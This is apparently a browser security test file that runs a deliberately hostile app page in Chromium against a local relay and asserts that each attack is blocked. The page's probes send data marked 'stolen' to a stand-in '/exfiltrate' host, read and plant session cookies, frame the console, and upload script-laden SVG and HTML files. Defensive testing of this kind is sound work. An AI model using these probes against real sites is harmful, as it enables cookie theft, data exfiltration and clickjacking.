// A hostile app in real Chromium against a real local relay (issue 16, hostile input 5;
// WIRE §4.4–4.5): its page tries to load a script, a style and an image from a host its
// manifest does not declare, to frame the owner console and the sign-in page, to read
// the console's session cookie, to reach another app's origin and the relay's /v1 API
// with credentials, to use browser powers its Permissions-Policy denies, and its owner
// uploads files that would run script if a browser rendered them. A loopback recorder
// stands for the undeclared host and counts every request it gets: it must get none. The
// person visiting is signed in to the console in the same browser, and owns the other app.
import { request, type IncomingHttpHeaders, type IncomingMessage } from "node:http";
import { chromium, type Frame, type Page } from "playwright-core";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { serveOnLoopback, type StandInServer } from "../support/http-parts";
import { quietFor, waitFor } from "../support/wait";
import { api, fakeIp, ownerWithAgent, relay, relayUrl, signInHere, useBrowser } from "./support";

const { newPage } = useBrowser();

interface Deployed { app_id: string; slug: string; url: string }
interface Violation { blocked: string; directive: string }
interface ProbeResult { status?: number; body?: string; error?: string }

/** What every Permissions-Policy feature the relay knows is set to on an app that lists none (src/manifest/origins.ts). */
const DENIED_FEATURES = [
  "camera", "microphone", "autoplay", "fullscreen", "picture-in-picture", "encrypted-media", "geolocation",
  "accelerometer", "gyroscope", "magnetometer", "xr-spatial-tracking", "clipboard-write", "web-share",
  "display-capture", "screen-wake-lock", "serial", "usb", "hid", "midi", "publickey-credentials-get", "payment",
];

/** Markup that would run script if a browser rendered it as a document. */
const SCRIPTED_SVG = `<svg xmlns="http://www.w3.org/2000/svg" width="4" height="4"><script>window.pwned = true; document.title = "pwned";</script><rect width="4" height="4" fill="red"/></svg>`;
const SCRIPTED_HTML = `<!doctype html><html><head><title>inert</title></head><body><script>window.pwned = true; document.title = "pwned";</script><p>html</p></body></html>`;
const SCRIPTED_XHTML = `<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><head><title>inert</title></head><body><script>window.pwned = true; document.title = "pwned";</script></body></html>`;
/** Script an app ships as text, hoping to run it as a worker or service worker. */
const WORKER_SCRIPT = `postMessage("ran"); self.addEventListener("fetch", () => {});`;
const b64 = (text: string) => Buffer.from(text).toString("base64");

function manifest(name: string, ext: Record<string, unknown> = {}) {
  return { $schema: "https://json-schema.org/draft/2020-12/schema", "x-service-manifest": { app: { name }, collections: {}, ...ext } };
}

/**
 * The hostile page: a violation log first, then loads from the undeclared `foreign` host
 * and from the other app's origin, frames of the console and the sign-in page, and probes
 * the test calls (`window.probes`) for cookies, cross-origin requests and browser powers.
 */
function hostilePage(foreign: string, victim: Deployed): string {
  return `<!doctype html><html><head><meta charset="utf-8"><title>Hostile</title>
<script>
  window.violations = [];
  document.addEventListener("securitypolicyviolation", (e) => window.violations.push({ blocked: e.blockedURI, directive: e.effectiveDirective }));
  window.loads = {};
  window.mark = (name, outcome) => { window.loads[name] = outcome; };
</script>
<link rel="stylesheet" href="${foreign}/style.css" onload="mark('style', 'loaded')" onerror="mark('style', 'failed')">
</head><body><h1 id="content">Hostile</h1>
<script src="${foreign}/evil.js" onload="mark('script', 'loaded')" onerror="mark('script', 'failed')"></script>
<script src="${victim.url}_svc/session" onload="mark('victimScript', 'loaded')" onerror="mark('victimScript', 'failed')"></script>
<img src="${foreign}/pixel.png" onload="mark('image', 'loaded')" onerror="mark('image', 'failed')">
<iframe name="console" src="${relayUrl}/console/apps"></iframe>
<iframe name="signin" src="${relayUrl}/signin"></iframe>
<iframe name="sink"></iframe>
<script>
  window.probes = {
    async request(url, init) {
      try {
        const res = await fetch(url, init);
        return { status: res.status, body: await res.text() };
      } catch (err) {
        return { error: String(err) };
      }
    },
    beacon(url) {
      try { return navigator.sendBeacon(url, "stolen"); } catch (err) { return String(err); }
    },
    socket(url) {
      return new Promise((resolve) => {
        try {
          const socket = new WebSocket(url);
          socket.onopen = () => { socket.close(); resolve("open"); };
          socket.onerror = () => resolve("error");
        } catch (err) { resolve(String(err)); }
      });
    },
    post(action, value) {
      const form = document.createElement("form");
      form.method = "POST"; form.action = action; form.target = "sink"; form.enctype = "text/plain";
      const input = document.createElement("input");
      input.name = "data"; input.value = value;
      form.append(input); document.body.append(form); form.submit();
    },
    cookies() { return document.cookie; },
    plantCookies() {
      document.cookie = "relay_session=planted-by-app; path=/; domain=localhost";
      document.cookie = "relay_session=planted-by-app; path=/";
      return document.cookie;
    },
    importFrom(url) { return import(url).then(() => "loaded", (err) => String(err)); },
    register(path) { return navigator.serviceWorker.register(path).then(() => "registered", (err) => err.name); },
    spawn(path) {
      return new Promise((resolve) => {
        const worker = new Worker(path);
        worker.onmessage = (e) => resolve(e.data);
        worker.onerror = () => resolve("error");
      });
    },
    allows(features) { return Object.fromEntries(features.map((f) => [f, document.featurePolicy.allowsFeature(f)])); },
    position() {
      return new Promise((resolve) => navigator.geolocation.getCurrentPosition(() => resolve("granted"), (err) => resolve(err.code === err.PERMISSION_DENIED ? "denied" : "error " + err.code), { timeout: 5000 }));
    },
    async media(kind) {
      try { (await navigator.mediaDevices.getUserMedia({ [kind]: true })).getTracks().forEach((t) => t.stop()); return "granted"; }
      catch (err) { return err.name; }
    },
  };
</script></body></html>`;
}

type Win = Window & {
  violations: Violation[];
  loads: Record<string, string>;
  probes: {
    request(url: string, init?: RequestInit): Promise<ProbeResult>;
    beacon(url: string): boolean | string;
    socket(url: string): Promise<string>;
    post(action: string, value: string): void;
    cookies(): string;
    plantCookies(): string;
    importFrom(url: string): Promise<string>;
    register(path: string): Promise<string>;
    spawn(path: string): Promise<string>;
    allows(features: string[]): Record<string, boolean>;
    position(): Promise<string>;
    media(kind: "video" | "audio"): Promise<string>;
  };
};

const violations = (p: Page) => p.evaluate(() => (window as unknown as Win).violations);

async function deploy(key: string, body: Record<string, unknown>): Promise<Deployed> {
  const res = await api<Deployed>("/v1/apps", { key, body: { visibility: "public", ...body } });
  expect(res.status, JSON.stringify(res.body)).toBe(201);
  return res.body;
}

async function notes(appId: string, key: string): Promise<unknown[]> {
  const res = await api<{ rows: unknown[] }>(`/v1/apps/${appId}/collections/notes`, { key });
  expect(res.status).toBe(200);
  return res.body.rows;
}

/**
 * A GET's status and headers as the relay answers them. Node cannot resolve *.localhost,
 * so an app origin's request goes to the relay's address with the app's Host.
 */
function headersOf(url: string, headers: Record<string, string> = {}): Promise<{ status: number; headers: IncomingHttpHeaders }> {
  const target = new URL(url);
  return new Promise((resolve, reject) => {
    const req = request({ host: relay.hostname, port: target.port, path: target.pathname + target.search, headers: { host: target.host, "cf-connecting-ip": fakeIp(), ...headers } }, (res) => {
      res.resume();
      res.on("end", () => resolve({ status: res.statusCode ?? 0, headers: res.headers }));
    });
    req.on("error", reject);
    req.end();
  });
}

/** The text a frame shows, or "" when it shows nothing (a refused frame is an empty error page). */
async function frameText(frame: Frame): Promise<string> {
  return frame.evaluate(() => document.body?.innerText ?? "").catch(() => "");
}

describe("a hostile app page in Chromium", () => {
  let recorder: StandInServer;
  /** A site of the attacker's own (no CSP of ours): a page framing each of `framed`. */
  let attacker: StandInServer;
  let framed: string[] = [];
  const recorded: string[] = [];
  let person: { email: string; key: string };
  let attackerKey: string;
  let victim: Deployed;
  let hostile: Deployed;

  beforeAll(async () => {
    const record = (request: IncomingMessage) => { recorded.push(`${request.method} ${request.url}`); };
    recorder = await serveOnLoopback({}, (request, response) => {
      record(request);
      response.writeHead(200, { "content-type": "text/javascript", "access-control-allow-origin": "*" });
      response.end("window.foreignRan = true;");
    });
    attacker = await serveOnLoopback({
      "GET /frames": (_request, response) => {
        response.writeHead(200, { "content-type": "text/html; charset=utf-8" });
        response.end(`<!doctype html><body>${framed.map((url, i) => `<iframe name="f${i}" src="${url}"></iframe>`).join("")}</body>`);
      },
    });
    person = await ownerWithAgent("victim");
    attackerKey = (await ownerWithAgent("attacker")).key;
    victim = await deploy(person.key, {
      html: "<!doctype html><title>Victim</title><h1>Victim notes</h1>", visibility: "private",
      manifest: manifest("Victim notes", { collections: { notes: { read: ["owner"], write: ["owner"], update: ["owner"], delete: ["owner"] } } }),
    });
    expect((await api(`/v1/apps/${victim.app_id}/collections/notes`, { key: person.key, body: { key: "only", data: { text: "mine" } } })).status).toBe(201);
    hostile = await deploy(attackerKey, {
      html: hostilePage(recorder.origin, victim),
      manifest: manifest("Free stickers"),
      assets: [
        { path: "disguise.png", content_base64: b64(SCRIPTED_SVG) },
        { path: "disguise.ico", content_base64: b64(SCRIPTED_SVG) },
        { path: "page.txt", content_base64: b64(SCRIPTED_HTML), mime: "text/html" },
        { path: "page.json", content_base64: b64(SCRIPTED_HTML) },
        { path: "doc.xml", content_base64: b64(SCRIPTED_XHTML) },
        { path: "noextension", content_base64: b64(SCRIPTED_HTML) },
        { path: "worker.txt", content_base64: b64(WORKER_SCRIPT) },
      ],
    });
  });

  afterAll(async () => {
    await recorder?.close();
    await attacker?.close();
  });

  /** The person's browser, signed in to the console, on the hostile page with every load settled. */
  async function visit(): Promise<Page> {
    const p = await newPage([recorder.origin, attacker.origin]);
    await p.goto(`${relayUrl}/signin`);
    await signInHere(p, person.email);
    await p.waitForURL((url) => url.origin === relayUrl && url.pathname !== "/signin" && !url.pathname.startsWith("/v1/auth"));
    await p.goto(hostile.url);
    await p.locator("#content").waitFor();
    await p.waitForFunction(() => ["style", "script", "victimScript", "image"].every((name) => name in (window as unknown as Win).loads));
    return p;
  }

  it("documents the policy: app pages carry the documented CSP, Permissions-Policy and frame refusal, and no cookie", async () => {
    const res = await headersOf(hostile.url, { cookie: "relay_session=anything" });
    expect(res.status).toBe(200);
    const csp = String(res.headers["content-security-policy"]);
    const directives = Object.fromEntries(csp.split(";").map((part) => part.trim().split(/\s+/)).map(([name, ...values]) => [name, values]));
    expect(directives["default-src"]).toEqual(["'self'"]);
    expect(directives["script-src"]).toEqual(["'self'", "'unsafe-inline'"]);
    expect(directives["style-src"]).toEqual(["'self'", "'unsafe-inline'"]);
    expect(directives["connect-src"]).toEqual(["'self'"]);
    expect(directives["frame-src"]).toEqual(["'none'"]);
    expect(directives["frame-ancestors"]).toEqual(["'none'"]);
    expect(directives["form-action"]).toEqual(["'self'"]);
    expect(directives["object-src"]).toEqual(["'none'"]);
    // Documented and deliberate (WIRE §4.5): pictures, fonts and media from any https host.
    expect(directives["img-src"]).toEqual(["'self'", "data:", "blob:", "https:"]);
    expect(res.headers["x-frame-options"]).toBe("DENY");
    expect(res.headers["x-content-type-options"]).toBe("nosniff");
    expect(res.headers["referrer-policy"]).toBe("no-referrer");
    expect(res.headers["permissions-policy"]).toBe(DENIED_FEATURES.map((f) => `${f}=()`).join(", "));
    expect(res.headers["set-cookie"]).toBeUndefined();
  });

  it("(a) a script, a style and an image from an undeclared host never load, and the host gets no request", async () => {
    const p = await visit();
    expect(await p.evaluate(() => (window as unknown as Win).loads)).toEqual({ style: "failed", script: "failed", victimScript: "failed", image: "failed" });
    expect(await p.evaluate(() => (window as unknown as { foreignRan?: boolean }).foreignRan)).toBeUndefined();
    const seen = await violations(p);
    for (const [path, directive] of [["/evil.js", "script-src-elem"], ["/style.css", "style-src-elem"], ["/pixel.png", "img-src"]]) {
      expect(seen).toContainEqual({ blocked: `${recorder.origin}${path}`, directive });
    }
    expect(seen).toContainEqual({ blocked: `${victim.url}_svc/session`, directive: "script-src-elem" });
    // A dynamic import from the foreign host is refused the same way.
    expect(await p.evaluate((origin) => (window as unknown as Win).probes.importFrom(`${origin}/module.js`), recorder.origin)).toMatch(/TypeError/);
    expect(await violations(p)).toContainEqual({ blocked: `${recorder.origin}/module.js`, directive: "script-src-elem" });
    expect(recorded).toEqual([]);
  });

  it("(b) the console and the sign-in page refuse to render in a frame, from the app page and from any other site", async () => {
    const p = await visit();
    // The app page's own CSP refuses the frames before any request (frame-src 'none').
    await waitFor(async () => (await violations(p)).filter((v) => v.directive === "frame-src").length >= 2, { message: "frame-src violations" });
    // (Chromium reports only the origin of a blocked frame.)
    expect((await violations(p)).filter((v) => v.directive === "frame-src").map((v) => v.blocked)).toEqual([relayUrl, relayUrl]);
    for (const name of ["console", "signin"]) {
      const frame = p.frame({ name });
      expect(frame).not.toBeNull();
      expect(await frameText(frame!)).not.toMatch(/Email address|Your apps|Victim notes|Sign in/);
    }

    // A site of the attacker's own (no CSP of ours) frames the same pages in the signed-in
    // browser: each answer refuses its ancestors, and the browser shows none of them.
    framed = [`${relayUrl}/`, `${relayUrl}/signin`, `${relayUrl}/console/apps`, `${relayUrl}/console/apps/${victim.app_id}`,
      `${relayUrl}/console/account`, `${relayUrl}/oauth/connections/callback?state=forged`, victim.url];
    const refused: string[] = [];
    p.on("requestfailed", (req) => { if (req.failure()?.errorText === "net::ERR_BLOCKED_BY_RESPONSE") refused.push(req.url()); });
    await p.goto(`${attacker.origin}/frames`);
    await waitFor(() => refused.length >= framed.length, { timeout: 15_000, message: `a refused response for each of ${framed.length} frames (got ${refused.join(" | ")})` });
    for (const [i, url] of framed.entries()) {
      // A refused frame holds the browser's own error page, never the answer.
      const frame = p.frame({ name: `f${i}` })!;
      await waitFor(() => frame.url() === "chrome-error://chromewebdata/", { message: `${url} refused in its frame (frame at ${frame.url()})` });
      expect(await frameText(frame), url).not.toMatch(/Email address|Your apps|Victim notes|Connected|Not connected|Sign out/);
    }
    // And the headers say so to any browser.
    const cookie = (await p.context().cookies(relayUrl)).filter((c) => c.name === "relay_session").map((c) => `${c.name}=${c.value}`).join("; ");
    for (const url of framed) {
      const res = await headersOf(url, { cookie });
      expect(res.status, url).toBeLessThan(500);
      if (res.status >= 300 && res.status < 400) continue;
      expect(res.headers["x-frame-options"], url).toBe("DENY");
      expect(res.headers["content-security-policy"], url).toMatch(/frame-ancestors 'none'/);
    }
  });

  it("(c) the console's session cookie is HttpOnly, never reaches an app origin, and an app cannot plant one", async () => {
    const p = await visit();
    const before = (await p.context().cookies(relayUrl)).find((c) => c.name === "relay_session");
    expect(before).toMatchObject({ httpOnly: true, sameSite: "Lax", domain: "localhost", path: "/" });
    expect(await p.evaluate(() => (window as unknown as Win).probes.cookies())).toBe("");
    const responses: Array<Record<string, string>> = [];
    p.on("response", (res) => { if (new URL(res.url()).origin === new URL(hostile.url).origin) responses.push(res.headers()); });
    await p.evaluate(() => (window as unknown as Win).probes.plantCookies());
    await p.reload();
    await p.locator("#content").waitFor();
    expect(responses.length).toBeGreaterThan(0);
    expect(responses.filter((headers) => "set-cookie" in headers)).toEqual([]);
    const after = (await p.context().cookies(relayUrl)).filter((c) => c.name === "relay_session");
    expect(after.map((c) => c.value)).toEqual([before!.value]);
    // On the console's own origin, script cannot read it either.
    await p.goto(`${relayUrl}/console/apps`);
    expect(await p.evaluate(() => document.cookie)).not.toContain("relay_session");
  });

  it("(d) requests to another app's origin and to /v1 with credentials are refused and change nothing", async () => {
    const p = await visit();
    const probes = await p.evaluate(async ({ victimUrl, victimId, relay, foreign }) => {
      const { probes } = window as unknown as Win;
      const json = { "content-type": "application/json" };
      return {
        victimWrite: await probes.request(`${victimUrl}_svc/c/notes`, { method: "POST", credentials: "include", headers: json, body: JSON.stringify({ data: { text: "from hostile" } }) }),
        victimRead: await probes.request(`${victimUrl}_svc/c/notes`, { credentials: "include" }),
        apiWrite: await probes.request(`${relay}/v1/apps/${victimId}/collections/notes`, { method: "POST", credentials: "include", headers: json, body: JSON.stringify({ data: { text: "from hostile" } }) }),
        apiSimpleWrite: await probes.request(`${relay}/v1/apps/${victimId}/collections/notes`, { method: "POST", mode: "no-cors", credentials: "include", body: JSON.stringify({ data: { text: "from hostile" } }) }),
        apiRead: await probes.request(`${relay}/v1/self/apps`, { credentials: "include" }),
        foreign: await probes.request(`${foreign}/exfiltrate`, { method: "POST", body: "stolen" }),
        beacon: probes.beacon(`${foreign}/beacon`),
        apiBeacon: probes.beacon(`${relay}/v1/apps/${victimId}/collections/notes`),
        socket: await probes.socket(`${victimUrl.replace(/^http/, "ws")}_svc/ws`),
      };
    }, { victimUrl: victim.url, victimId: victim.app_id, relay: relayUrl, foreign: recorder.origin });
    for (const name of ["victimWrite", "victimRead", "apiWrite", "apiSimpleWrite", "apiRead", "foreign"] as const) {
      expect(probes[name].status, name).toBeUndefined();
      expect(probes[name].error, name).toMatch(/TypeError|Failed to fetch/);
    }
    // sendBeacon only queues (its answer says nothing); the CSP refuses the send itself, below.
    expect(probes.socket).toBe("error");
    // A form post to the API and to the foreign host is refused by form-action.
    await p.evaluate(({ relay, victimId }) => (window as unknown as Win).probes.post(`${relay}/v1/apps/${victimId}/collections/notes`, "{}"), { relay: relayUrl, victimId: victim.app_id });
    await p.evaluate((foreign) => (window as unknown as Win).probes.post(`${foreign}/form`, "stolen"), recorder.origin);
    await waitFor(async () => (await violations(p)).filter((v) => v.directive === "form-action").length >= 2, { message: "form-action violations" });
    const connectBlocked = (await violations(p)).filter((v) => v.directive === "connect-src").map((v) => new URL(v.blocked).origin);
    expect(new Set(connectBlocked)).toEqual(new Set([new URL(victim.url).origin, relayUrl, recorder.origin, new URL(victim.url).origin.replace(/^http/, "ws")]));
    await quietFor(300);
    expect(recorded).toEqual([]);
    expect(await notes(victim.app_id, person.key)).toHaveLength(1);

    // Behind the CSP, the relay itself refuses the same request carrying the person's cookie from the app's origin.
    const cookie = (await p.context().cookies(relayUrl)).filter((c) => c.name === "relay_session").map((c) => `${c.name}=${c.value}`).join("; ");
    const forged = await fetch(`${relayUrl}/v1/apps/${victim.app_id}/collections/notes`, {
      method: "POST", headers: { "cf-connecting-ip": fakeIp(), cookie, origin: new URL(hostile.url).origin, "content-type": "application/json" },
      body: JSON.stringify({ data: { text: "from hostile" } }),
    });
    expect(forged.status).toBe(403);
    expect(((await forged.json()) as { error: { code: string } }).error.code).toBe("csrf_origin_mismatch");
    expect(forged.headers.get("access-control-allow-origin")).toBeNull();
    expect(await notes(victim.app_id, person.key)).toHaveLength(1);
  });

  it("(e) browser powers the Permissions-Policy denies stay denied even when the person has granted them; one the manifest lists works", async () => {
    // A browser of this test's own, with a fake camera and microphone, so that only the
    // policy can say no; its contexts reach nothing but the relay and its app origins.
    const browser = await chromium.launch({
      executablePath: "/usr/bin/chromium",
      args: ["--no-sandbox", "--disable-gpu", "--use-fake-device-for-media-stream", "--use-fake-ui-for-media-stream", "--disable-dev-shm-usage"],
    });
    try {
      const listed = await deploy(attackerKey, { html: hostilePage(recorder.origin, victim), manifest: manifest("Maps", { capabilities: ["geolocation", "camera"] }) });
      const open = async (url: string): Promise<Page> => {
        const context = await browser.newContext({ extraHTTPHeaders: { "cf-connecting-ip": fakeIp() }, geolocation: { latitude: 52.37, longitude: 4.89 } });
        await context.route((target) => target.port !== relay.port, (route) => route.abort());
        await context.grantPermissions(["geolocation", "camera", "microphone"], { origin: new URL(url).origin });
        const p = await context.newPage();
        await p.goto(url);
        await p.locator("#content").waitFor();
        return p;
      };
      const probe = (p: Page) => p.evaluate(async (features) => {
        const { probes } = window as unknown as Win;
        const supported = (document as unknown as { featurePolicy: { features(): string[] } }).featurePolicy.features();
        return {
          allowed: Object.entries(probes.allows(features.filter((f) => supported.includes(f)))).filter(([, yes]) => yes).map(([name]) => name),
          checked: features.filter((f) => supported.includes(f)),
          position: await probes.position(), camera: await probes.media("video"), microphone: await probes.media("audio"),
        };
      }, DENIED_FEATURES);

      const denied = await probe(await open(hostile.url));
      expect(denied.checked).toEqual(expect.arrayContaining(["camera", "microphone", "geolocation", "payment", "usb", "fullscreen", "clipboard-write"]));
      expect(denied).toMatchObject({ allowed: [], position: "denied", camera: "NotAllowedError", microphone: "NotAllowedError" });

      // The control: the app that lists geolocation and camera gets exactly those two.
      const granted = await probe(await open(listed.url));
      expect(granted).toMatchObject({ allowed: ["camera", "geolocation"], position: "granted", camera: "granted", microphone: "NotAllowedError" });
    } finally {
      await browser.close();
    }
  });

  it("(f) uploaded files that hold script stay inert when opened directly", async () => {
    // Types that could execute never get in as assets.
    for (const path of ["evil.svg", "evil.html", "evil.htm", "evil.xhtml", "evil.css", "evil.mjs"]) {
      const refused = await api<{ error: { code: string } }>("/v1/apps", { key: attackerKey, body: { html: "<p>x</p>", manifest: manifest("x"), visibility: "public", assets: [{ path, content_base64: b64(SCRIPTED_SVG) }] } });
      expect(refused.status, path).toBe(400);
      expect(refused.body.error.code, path).toBe("invalid_request");
    }

    // Attachments: an SVG with a script is stored as pixels; HTML is either refused or kept as plain text.
    const svg = await api<{ attachment_id: string; mime: string }>("/v1/attachments", { key: attackerKey, body: { content_base64: b64(SCRIPTED_SVG), scope: "app", app_id: hostile.app_id, filename: "sticker.svg", mime: "image/svg+xml" } });
    expect(svg.status, JSON.stringify(svg.body)).toBe(201);
    expect(svg.body.mime).toBe("image/png");
    const html = await api<{ error: { code: string } }>("/v1/attachments", { key: attackerKey, body: { content_base64: b64(SCRIPTED_HTML), scope: "app", app_id: hostile.app_id, filename: "page.html", mime: "text/html" } });
    expect(html.status).toBe(415);
    expect(html.body.error.code).toBe("mime_disallowed");
    const text = await api<{ attachment_id: string; mime: string }>("/v1/attachments", { key: attackerKey, body: { content_base64: b64(SCRIPTED_HTML), scope: "app", app_id: hostile.app_id, filename: "page.html", mime: "text/plain" } });
    expect(text.status, JSON.stringify(text.body)).toBe(201);
    expect(text.body.mime).toBe("text/plain");
    const token = await api<{ url: string }>(`/v1/attachments/${text.body.attachment_id}/tokens`, { key: attackerKey, body: {} });
    expect(token.status).toBe(201);

    const origin = hostile.url.replace(/\/$/, "");
    const opened = [
      { url: `${origin}/disguise.png`, type: "image/png", inline: true },
      { url: `${origin}/disguise.ico`, type: "image/x-icon", inline: true },
      { url: `${origin}/_svc/attachments/${svg.body.attachment_id}`, type: "image/png", inline: true },
      { url: `${origin}/page.txt`, type: "text/plain", inline: false },
      { url: `${origin}/page.json`, type: "application/json", inline: false },
      { url: `${origin}/doc.xml`, type: "application/xml", inline: false },
      { url: `${origin}/noextension`, type: "application/octet-stream", inline: false },
      { url: `${origin}/_svc/attachments/${text.body.attachment_id}`, type: "text/plain", inline: false },
      { url: token.body.url, type: "text/plain", inline: false },
    ];
    for (const file of opened) {
      const res = await headersOf(file.url);
      expect(res.status, file.url).toBe(200);
      expect(res.headers["content-type"], file.url).toBe(file.type);
      expect(res.headers["x-content-type-options"], file.url).toBe("nosniff");
      expect(res.headers["content-security-policy"], file.url).toMatch(/^sandbox; default-src 'none'/);
      expect(res.headers["content-disposition"], file.url).toMatch(file.inline ? /^inline;/ : /^attachment;/);

      const p = await newPage([recorder.origin]);
      if (file.inline) {
        await p.goto(file.url);
        expect(await p.evaluate(() => (window as unknown as { pwned?: boolean }).pwned), file.url).toBeUndefined();
        expect(await p.title(), file.url).not.toBe("pwned");
      } else {
        // Opened directly, it downloads: the browser never renders it as a document.
        const [download] = await Promise.all([p.waitForEvent("download"), p.goto(file.url).catch(() => null)]);
        expect(download.url()).toBe(file.url);
        expect(p.url(), file.url).toBe("about:blank");
      }
    }
    // Its own text file is not a script to the browser: not as a worker, not as a service worker.
    const p = await newPage([recorder.origin]);
    await p.goto(hostile.url);
    await p.locator("#content").waitFor();
    expect(await p.evaluate(() => (window as unknown as Win).probes.spawn("/worker.txt"))).toBe("error");
    expect(await p.evaluate(() => (window as unknown as Win).probes.register("/worker.txt"))).toBe("SecurityError");
    expect(recorded).toEqual([]);
  });
});
